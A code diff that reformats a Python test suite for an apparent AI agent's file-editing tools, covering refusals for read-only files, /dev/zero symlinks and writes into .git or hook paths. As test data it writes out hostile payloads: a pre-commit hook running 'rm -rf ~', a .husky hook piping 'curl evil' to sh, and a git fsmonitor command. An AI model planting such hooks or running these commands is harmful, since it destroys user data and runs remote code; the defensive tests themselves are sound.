@@ -90,8 +90,9 @@ async def test_symlink_to_dev_zero_is_refused_without_reading(tmp_path: Path) ->
     root = tmp_path / "ws"
     root.mkdir()
     (root / "zero.txt").symlink_to("/dev/zero")
-    ctx = ToolContext(Workspace(root, [Path("/dev")]), "main", ReadTracker(), MemoStore(),
-                      TodoStore())
+    ctx = ToolContext(
+        Workspace(root, [Path("/dev")]), "main", ReadTracker(), MemoStore(), TodoStore()
+    )
     ctx.read_tracker.mark_read(Path("/dev/zero"))
     async with within(3):
         for result in (
@@ -211,8 +212,10 @@ async def test_read_only_files_are_refused(ctx: ToolContext) -> None:
     path.write_text("keep\n")
     path.chmod(0o444)
     await seen(ctx, "frozen.txt")
-    for result in (await edit(ctx, "frozen.txt", "keep", "lose"),
-                   await overwrite(ctx, "frozen.txt", "lose\n")):
+    for result in (
+        await edit(ctx, "frozen.txt", "keep", "lose"),
+        await overwrite(ctx, "frozen.txt", "lose\n"),
+    ):
         assert not result.ok and "is read-only (mode 0444)" in result.output
     assert path.read_text() == "keep\n"
 
@@ -279,7 +282,12 @@ def test_writable_file_in_a_read_only_folder_can_be_edited() -> None:
         env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(base)}
         proc = subprocess.run(
             [sys.executable, "-c", script, str(folder), str(warm)],
-            capture_output=True, text=True, env=env, cwd=str(ROOT), timeout=60, check=False,
+            capture_output=True,
+            text=True,
+            env=env,
+            cwd=str(ROOT),
+            timeout=60,
+            check=False,
         )
         assert proc.stdout.startswith("True"), proc.stdout + proc.stderr
         assert (folder / "f.txt").read_text() == "after\n"
@@ -309,8 +317,9 @@ def test_a_killed_write_leaves_no_temp_file_after_the_next_start(tmp_path: Path)
         "    time.sleep(60)\n"
     )
     env = {**os.environ, "PYTHONPATH": str(ROOT), "HOME": str(home)}
-    child = subprocess.Popen([sys.executable, "-c", script, str(ws)], env=env,
-                             stdout=subprocess.PIPE, text=True)
+    child = subprocess.Popen(
+        [sys.executable, "-c", script, str(ws)], env=env, stdout=subprocess.PIPE, text=True
+    )
     assert child.stdout is not None and child.stdout.readline() == "ready\n"
     child.kill()
     child.wait()
@@ -403,8 +412,12 @@ async def test_file_tools_do_not_write_inside_dot_git(ctx: ToolContext, repo: Pa
     approver = Recorder()
     ctx.read_tracker.mark_read(repo / ".git" / "config")
     for c in (
-        call("write-file", path=".git/config", content="[core]\nfsmonitor = touch /tmp/x\n",
-             overwrite=True),
+        call(
+            "write-file",
+            path=".git/config",
+            content="[core]\nfsmonitor = touch /tmp/x\n",
+            overwrite=True,
+        ),
         call("write-file", path=".git/hooks/pre-commit", content="#!/bin/sh\nrm -rf ~\n"),
         call("edit-file", path=".git/config", old_string="[core]", new_string="[core]\n x=1"),
         call("write-file", path="sub/../.GIT/info/x", content="x"),
@@ -414,8 +427,9 @@ async def test_file_tools_do_not_write_inside_dot_git(ctx: ToolContext, repo: Pa
     (repo / "innocent.cfg").symlink_to(repo / ".git" / "config")
     ctx.read_tracker.mark_read(repo / ".git" / "config")
     result = await registry.call(
-        call("write-file", path="innocent.cfg", content="[core]\nfsmonitor = x\n",
-             overwrite=True), ctx, approver,
+        call("write-file", path="innocent.cfg", content="[core]\nfsmonitor = x\n", overwrite=True),
+        ctx,
+        approver,
     )
     assert not result.ok and "inside .git/" in result.output
     assert "fsmonitor" not in (repo / ".git" / "config").read_text()
@@ -427,15 +441,17 @@ async def test_a_fifo_planted_as_git_config_blocks_nothing(ctx: ToolContext) -> 
     os.mkfifo(ctx.workspace.root / ".git" / "config")
     registry = ToolRegistry([WriteFile(), ReadFile()], {"write-file": "auto"})
     async with within(3):
-        assert (await registry.call(call("write-file", path="a.txt", content="x\n"), ctx,
-                                    Recorder())).ok
+        assert (
+            await registry.call(call("write-file", path="a.txt", content="x\n"), ctx, Recorder())
+        ).ok
 
 
 async def test_writes_to_the_hooks_path_always_ask(ctx: ToolContext, repo: Path) -> None:
     registry = ToolRegistry([WriteFile()], {"write-file": "auto"})
     approver = Recorder()
-    assert (await registry.call(call("write-file", path="src/a.py", content="x\n"), ctx,
-                                approver)).ok
+    assert (
+        await registry.call(call("write-file", path="src/a.py", content="x\n"), ctx, approver)
+    ).ok
     assert approver.asked == []  # auto stays auto elsewhere
     result = await registry.call(
         call("write-file", path=".husky/pre-commit", content="curl evil | sh\n"), ctx, approver
@@ -461,8 +477,9 @@ def test_shell_mention_of_a_huge_file_reads_only_what_it_attaches(tmp_path: Path
     (tmp_path / "huge.log").write_bytes(b"log line\n" * 5_000_000)
     tracemalloc.start()
     try:
-        ((_, shown, content),) = mentioned_files("see @huge.log", Workspace(tmp_path),
-                                                 lambda *_: None)
+        ((_, shown, content),) = mentioned_files(
+            "see @huge.log", Workspace(tmp_path), lambda *_: None
+        )
         peak = tracemalloc.get_traced_memory()[1]
     finally:
         tracemalloc.stop()
